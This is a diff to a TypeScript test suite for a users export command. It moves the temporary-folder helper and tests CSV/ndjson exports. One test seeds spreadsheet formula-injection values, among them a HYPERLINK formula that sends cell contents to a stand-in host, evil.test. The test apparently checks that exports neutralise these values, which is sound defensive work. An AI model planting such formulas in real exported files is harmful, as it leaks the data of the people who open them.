@@ -10,11 +10,11 @@ import { configuredEncryption } from '../../../plugins/security/encryption/index
 import { query } from '../../db/sql.ts'
 import { testConfig } from '../../support/config.ts'
 import { cloneDatabase } from '../../support/database.ts'
+import { temporaryFolder } from '../../support/processes/temporary-folder.ts'
 import {
   listAllUsers,
   passwordHash,
   startUsers,
-  temporaryFolder,
   users,
   various,
   writeImportFile,
@@ -24,7 +24,7 @@ suite('users export', () => {
   for (const format of ['ndjson', 'csv']) {
     test(`exports as ${format} and restores by import in another database`, async (t) => {
       const [from, to] = [await cloneDatabase(t), await cloneDatabase(t)]
-      const folder = await temporaryFolder(t)
+      const folder = temporaryFolder(t, 'export')
       await users(from.url, 'import', await writeImportFile(t, 'users.ndjson', various))
       const file = join(folder, `users.${format}`)
       await writeFile(file, 'left by a user', { mode: 0o644 })
@@ -49,7 +49,7 @@ suite('users export', () => {
     const auds = ['=HYPERLINK("https://evil.test/?"&F2)', '@sum', "'=1", '\t=1', "'quoted"]
     const rows = auds.map((aud, index) => ({ email: `-1+1@x${index}.test`, aud }))
     await users(from.url, 'import', await writeImportFile(t, 'users.ndjson', rows))
-    const file = join(await temporaryFolder(t), 'users.csv')
+    const file = join(temporaryFolder(t, 'export'), 'users.csv')
     await users(from.url, 'export', file)
 
     const cells: string[][] = parse(await readFile(file))
@@ -69,13 +69,13 @@ suite('users export', () => {
       text: 'insert into auth.users (id, email, encrypted_password) values ($1, $2, $3)',
       values: [id, 'ann@example.com', encryption.encrypt(id, passwordHash)],
     })
-    const file = join(await temporaryFolder(t), 'users.ndjson')
+    const file = join(temporaryFolder(t, 'export'), 'users.ndjson')
     await users(url, 'export', file)
     assert.equal(JSON.parse(await readFile(file, 'utf8')).password_hash, passwordHash)
   })
 
   test('keeps the previous file when an export fails', async (t) => {
-    const folder = await temporaryFolder(t)
+    const folder = temporaryFolder(t, 'export')
     const file = join(folder, 'users.ndjson')
     await writeFile(file, 'of yesterday')
     const { code, stderr } = await users('postgres://nobody@127.0.0.1:1/none', 'export', file)
@@ -86,7 +86,7 @@ suite('users export', () => {
 
   test('writes to a device without replacing it', async (t) => {
     const { url } = await cloneDatabase(t)
-    const file = join(await temporaryFolder(t), 'users.csv')
+    const file = join(temporaryFolder(t, 'export'), 'users.csv')
     await symlink('/dev/null', file)
     const { code, stderr } = await users(url, 'export', file)
     assert.equal(code, 0, stderr)
